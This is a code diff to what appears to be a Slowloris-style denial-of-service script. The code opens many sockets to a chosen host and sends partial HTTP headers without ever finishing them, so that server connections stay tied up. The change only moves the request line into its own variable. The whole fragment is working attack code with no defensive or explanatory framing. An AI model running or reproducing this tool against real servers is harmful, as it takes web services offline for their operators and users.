@@ -26,7 +26,8 @@ def main() -> None:
         with contextlib.suppress(OSError):
             while len(held) < options.sockets:
                 made = socket.create_connection((options.host, options.port), timeout=3)
-                made.send(f"GET /?{random.randrange(2000)} HTTP/1.1\r\nHost: {options.host}\r\nUser-Agent: Mozilla/5.0\r\n".encode())
+                asked = f"GET /?{random.randrange(2000)} HTTP/1.1"
+                made.send(f"{asked}\r\nHost: {options.host}\r\nUser-Agent: Mozilla/5.0\r\n".encode())
                 held.append(made)
         time.sleep(options.pause)
         for made in list(held):
